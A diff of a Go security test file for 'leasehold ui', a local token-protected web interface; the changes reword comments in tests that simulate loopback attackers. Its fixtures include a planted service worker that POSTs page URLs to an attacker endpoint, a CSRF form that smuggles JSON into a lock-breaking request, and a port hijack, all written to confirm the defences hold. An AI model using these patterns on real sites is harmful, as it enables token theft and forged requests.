@@ -22,12 +22,12 @@ type attacker struct {
 	t       testing.TB
 	servers []*http.Server
 	port    string
-	pages   map[string]string // what it answers, by path; anything else: itself
-	proofs  http.Handler      // if not nil, the server that proves itself
+	pages   map[string]string // answers by path; other paths get the attacker's own page
+	proofs  http.Handler      // handler that answers /who with proofs; nil if there is none
 
 	mu      sync.Mutex
 	heard   []string      // requests, with their headers and bodies
-	arrived chan struct{} // has one after each request, unless it is full
+	arrived chan struct{} // receives a value after each request, unless it is full
 }
 
 // attack starts an attacker at a port of both loopback addresses; "0" means any port.
@@ -37,7 +37,7 @@ func attack(t testing.TB, port string, a *attacker) *attacker {
 	for _, host := range []string{"127.0.0.1", "::1"} {
 		l, err := net.Listen("tcp", net.JoinHostPort(host, a.port))
 		if err != nil && host == "::1" {
-			continue // there is none, or it is taken: then nobody asks there
+			continue // ::1 is missing, or its port is taken; then no client asks there
 		}
 		if err != nil {
 			t.Fatal(err)
@@ -93,7 +93,8 @@ func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	}
 }
 
-// wait waits until a request has come since the last call, or since the beginning.
+// wait waits until a request has arrived since the last call of wait, or since the start of
+// the attacker.
 func (a *attacker) wait() {
 	a.t.Helper()
 	select {
@@ -110,7 +111,7 @@ func (a *attacker) loot() string {
 	return strings.Join(a.heard, "\n\n")
 }
 
-// tokenOf is the token in a URL of leasehold ui.
+// tokenOf returns the token in a URL of leasehold ui.
 func tokenOf(t testing.TB, at string) string {
 	t.Helper()
 	_, token, ok := strings.Cut(at, "#token=")
@@ -120,7 +121,7 @@ func tokenOf(t testing.TB, at string) string {
 	return token
 }
 
-// portOf is the port of a URL.
+// portOf returns the port of a URL.
 func portOf(t testing.TB, at string) string {
 	t.Helper()
 	u, err := url.Parse(at)
@@ -148,7 +149,7 @@ func status(t testing.TB, at, token string) int {
 	return answer.StatusCode
 }
 
-// get returns what a server answers.
+// get returns the answer of a server.
 func get(t testing.TB, at string) string {
 	t.Helper()
 	r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, at, nil)
@@ -167,8 +168,8 @@ func get(t testing.TB, at string) string {
 	return string(b)
 }
 
-// opensWith tries each part of loot as a token of leasehold ui, and returns the one that
-// opens it.
+// opensWith tries each part of loot as a token of leasehold ui. It returns the first token
+// that opens the page, or "" if none does.
 func opensWith(t testing.TB, at, loot string) string {
 	t.Helper()
 	tried := map[string]bool{}
@@ -181,8 +182,8 @@ func opensWith(t testing.TB, at, loot string) string {
 	return ""
 }
 
-// planted is a service worker that answers for the origin that it was left on, and
-// tells its owner of everything.
+// planted returns the script of a service worker. The worker answers for the origin where
+// it was installed, and reports every request to its owner.
 func planted(owner string) string {
 	page := `<script>fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: location.href })</script><p>the attacker answers`
 	return `addEventListener("install", () => skipWaiting());
@@ -193,8 +194,8 @@ func planted(owner string) string {
 	});`
 }
 
-// A browser asks the service workers of an origin first. Another user's page may have left one
-// at an address with this port.
+// A browser asks the service workers of an origin before the server. A page of another user
+// may have left a service worker at an address with this port.
 func TestServiceWorkerOfEarlierPageDoesNotSeeURL(t *testing.T) {
 	s := newScene(t, "native")
 	owner := attack(t, "0", &attacker{})
@@ -216,12 +217,13 @@ func TestServiceWorkerOfEarlierPageDoesNotSeeURL(t *testing.T) {
 	if strings.Contains(owner.loot()+before.loot(), tokenOf(t, at)) {
 		t.Error("the attacker has the token")
 	}
-	// It is there, and would answer.
+	// The service worker is still there, and would answer.
 	tab.Open("http://127.0.0.1:" + before.port + "/")
 	tab.Wait(`document.body.innerText.includes("the attacker answers")`)
 }
 
-// tries is a page that tries to reach the page of leasehold ui in every way that a browser has.
+// tries returns a page that tries to reach the page of leasehold ui in every way that a
+// browser has.
 func tries(target string) string {
 	return `<!doctype html><script>
 	const target = ` + js(target) + `, tried = [];
@@ -256,7 +258,7 @@ func tries(target string) string {
 	<form id="post" method="post" enctype="text/plain" action="` + target + `/break"><input name='{"key":"job","typed":"job","grant":"g","version":"v","reason":"' value='"}'></form>`
 }
 
-func TestPageOnAnotherPortCanNeitherReadNorBreak(t *testing.T) {
+func TestPageOnAnotherPortCanNeitherReadNorBreakLocks(t *testing.T) {
 	s := newScene(t, "native")
 	p := s.ui("--allow-break", "--token-file", "token")
 	h := s.hold("job")
@@ -274,7 +276,8 @@ func TestPageOnAnotherPortCanNeitherReadNorBreak(t *testing.T) {
 		if strings.Contains(got, "open") || strings.Contains(got, "job") || strings.Contains(got, "<html") {
 			t.Errorf("from %s it got %q", at, got)
 		}
-		// A page that it opens cannot reach it, and a link to it sends no referrer.
+		// The attacker's page cannot reach a page that it opens, and its link to leasehold
+		// ui sends no referrer.
 		tab.Run(`globalThis.opened = open(` + js(p.origin()+"/") + `)`)
 		tab.Wait(`opened.closed || (() => { try { return opened.location.href === "x" } catch { return true } })()`)
 		tab.Run(`document.getElementById("link").click()`)
@@ -340,8 +343,8 @@ data: {"rows":[{"i":1,"kind":"lock","key":"a lie","state":"released"}]}
 
 `
 
-// An attacker takes the port of an open page. Nothing that it receives is of use after a restart
-// with the same secret, and the page does not show its text.
+// An attacker takes the port of an open page. Nothing that the attacker receives is useful
+// after a restart with the same secret, and the page does not show the attacker's text.
 func TestServerThatTakesPortOfOpenPageLearnsNothing(t *testing.T) {
 	s := newScene(t, "native")
 	addr := freePort(t)
@@ -356,7 +359,8 @@ func TestServerThatTakesPortOfOpenPageLearnsNothing(t *testing.T) {
 		.observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true });`)
 	_, port, _ := net.SplitHostPort(addr)
 
-	// The attacker asked for a proof before, as anyone may, and repeats it.
+	// The attacker has asked for a proof earlier, as anyone may, and now repeats that
+	// proof.
 	said := get(t, "http://"+addr+"/who?nonce="+strings.Repeat("0", 64))
 
 	p.server.kill()
